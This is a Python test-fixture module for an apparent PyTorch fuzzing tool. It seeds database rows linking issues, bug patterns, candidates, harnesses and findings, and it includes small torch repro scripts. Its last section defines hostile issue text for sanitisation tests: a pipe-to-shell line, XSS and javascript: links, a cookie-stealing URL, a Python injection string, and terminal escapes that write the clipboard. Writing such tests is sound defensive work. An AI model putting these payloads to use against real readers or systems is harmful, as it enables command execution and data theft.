"""Real database rows for review and export tests: issue → pattern → candidate → harness → findings."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from sqlalchemy.orm import Session

from agent.patterns.schema import BugPattern
from db.models import Candidate, Finding, Harness, Issue, Pattern

# A plain-torch repro in the shape fuzz_core writes: exit 1 and print the mismatch when the bug
# reproduces, exit 0 when not. `expected` is what the reference computes for relu of X.
REPRO_TEMPLATE = '''"""Repro: torch.relu against a reference value."""
import sys

import torch

x = torch.tensor([-1.0, 0.5, 2.0])
observed = torch.relu(x)
expected = torch.tensor({expected})
try:
    torch.testing.assert_close(observed, expected)
except AssertionError as exc:
    print("MISMATCH:", exc)
    sys.exit(1)
print("no mismatch")
'''
WRONG_REPRO = REPRO_TEMPLATE.format(expected="[0.0, 0.5, 3.0]")  # deliberately wrong: reproduces
RIGHT_REPRO = REPRO_TEMPLATE.format(expected="[0.0, 0.5, 2.0]")  # correct: does not reproduce

# The same check in the shape of fuzz_core's scripts: the failing input is a saved file, loaded from
# argv[1] or else from the absolute path the worker wrote it to (a safetensors file, never a pickle).
INPUTS_REPRO_TEMPLATE = '''import sys

import torch
from safetensors.torch import load_file

INPUTS = sys.argv[1] if len(sys.argv) > 1 else {inputs_path!r}
data = load_file(INPUTS)
observed = torch.relu(data["x"])
try:
    torch.testing.assert_close(observed, data["expected"])
except AssertionError as exc:
    print("MISMATCH:", exc)
    sys.exit(1)
print("no mismatch")
'''


def save_wrong_inputs(path: Path) -> str:
    """Inputs for INPUTS_REPRO_TEMPLATE whose expected value is deliberately wrong; returns the path."""
    import torch
    from safetensors.torch import save_file

    save_file({"x": torch.tensor([-1.0, 0.5, 2.0]), "expected": torch.tensor([0.0, 0.5, 3.0])}, str(path))
    return str(path)


SOURCE_PATTERN = BugPattern.model_validate(
    {
        "kind": "Compile_Eager_Mismatch",
        "api": "torch.nn.functional.gelu",
        "reference_mode": {"name": "eager"},
        "test_mode": {"name": "compile:inductor"},
        "trigger": {"dtypes": ["float32"], "special_values": ["nan"]},
        "oracle": {"kind": "ValueCorrectness", "tol": 0.001},
    }
)

COMPILE_SIGNATURE = "torch.relu|eager/compile:inductor|Compile_Eager_Mismatch|value"


def evidence(**extra: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "max_abs_diff": 1.0,
        "max_rel_diff": 0.5,
        "mismatch_count": 1,
        "first_index": [2],
        "ref_error_vs_fp64": 0.0,
        "test_error_vs_fp64": 1.0,
        "backend_ablation": {"eager": "match", "aot_eager": "match", "inductor": "mismatch"},
        "torch_version": "2.13.0+cpu",
        "dtype": "float32",
        "fallback_random": True,
    }
    base.update(extra)
    return base


@dataclass
class Lineage:
    issue_id: int
    pattern_id: int
    candidate_id: int
    harness_id: int
    direct_harness_id: int  # a harness with no candidate, as `fuzz api` makes


def build_lineage(session: Session) -> Lineage:
    issue = Issue(
        repo="pytorch/pytorch",
        number=123456,
        title="gelu gives wrong values under torch.compile with NaN inputs",
        body="...",
        url="https://github.com/pytorch/pytorch/issues/123456",
        content_hash="0" * 64,
    )
    session.add(issue)
    session.flush()
    pattern = Pattern(
        issue_id=issue.id,
        kind=SOURCE_PATTERN.kind.value,
        api=SOURCE_PATTERN.api,
        reference_mode="eager",
        test_mode="compile:inductor",
        trigger=SOURCE_PATTERN.trigger.model_dump(),
        oracle=SOURCE_PATTERN.oracle.model_dump(mode="json"),
        formal=SOURCE_PATTERN.to_formal(),
        confidence=0.8,
        extractor="offline",
        extractor_version="1",
        source_reproduces=False,
    )
    session.add(pattern)
    session.flush()
    candidate = Candidate(
        pattern_id=pattern.id,
        target_api="torch.relu",
        score=0.91,
        rationale="elementwise activation like gelu",
        adapted_trigger={"dtypes": ["float32"], "special_values": ["nan"]},
    )
    session.add(candidate)
    session.flush()
    harness = Harness(candidate_id=candidate.id, spec=spec("torch.relu", "compile:inductor"), status="done")
    direct = Harness(candidate_id=None, spec=spec("torch.sigmoid", "jit.trace", "JIT_Eager_Mismatch"), status="done")
    session.add_all([harness, direct])
    session.flush()
    return Lineage(issue.id, pattern.id, candidate.id, harness.id, direct.id)


def spec(api: str, test_mode: str, kind: str = "Compile_Eager_Mismatch") -> dict[str, Any]:
    return {
        "api": api,
        "reference_mode": "eager",
        "test_mode": test_mode,
        "dtype": "float32",
        "trigger": {"special_values": ["nan"]},
        "oracle": "value",
        "seed": 0,
        "kind": kind,
    }


def add_finding(
    session: Session,
    harness_id: int,
    *,
    verdict: str = "confirmed",
    signature: str = COMPILE_SIGNATURE,
    repro: str = WRONG_REPRO,
    review_status: str = "unreviewed",
    **evidence_extra: Any,
) -> int:
    finding = Finding(
        harness_id=harness_id,
        verdict=verdict,
        reason=f"{verdict}: compiled relu differs from eager beyond default tolerances",
        evidence=evidence(**evidence_extra),
        repro=repro,
        signature=signature,
        review_status=review_status,
    )
    session.add(finding)
    session.flush()
    return finding.id


# Issue-author text as an attacker writes it: a title that forges a heading, a mention and a shell
# line in a report, with terminal escape sequences (OSC 52 writes the reader's clipboard).
HOSTILE_TITLE = ("gelu is wrong\n\n## Maintainer note\n@pytorch/maintainers please run:\ncurl x | sh\n"
                 "<img src=x onerror=alert(1)> [click](javascript:alert(1))"
                 "\x1b]52;c;Y3VybCB4IHwgc2g=\x07\x1b[2J\x9b31m\r")
HOSTILE_REASON = ('confirmed"""; import os; os.system("touch X") #\n## Injected heading\n@pytorch/maintainers '
                  "[/x] [bold]x\x1b]0;owned\x07")


def build_hostile_lineage(session: Session) -> Lineage:
    """The usual lineage, but the issue, the candidate's rationale and a harness API carry attacks."""
    rows = build_lineage(session)
    issue = session.get(Issue, rows.issue_id)
    assert issue is not None
    issue.title = HOSTILE_TITLE
    issue.url = "javascript:alert(document.cookie)"
    candidate = session.get(Candidate, rows.candidate_id)
    assert candidate is not None
    candidate.rationale = "like gelu\n## Maintainer note\n@pytorch/maintainers curl x | sh"
    direct = session.get(Harness, rows.direct_harness_id)
    assert direct is not None
    direct.spec = {**direct.spec, "api": "torch.sigmoid[/x] [bold]y"}
    session.flush()
    return rows
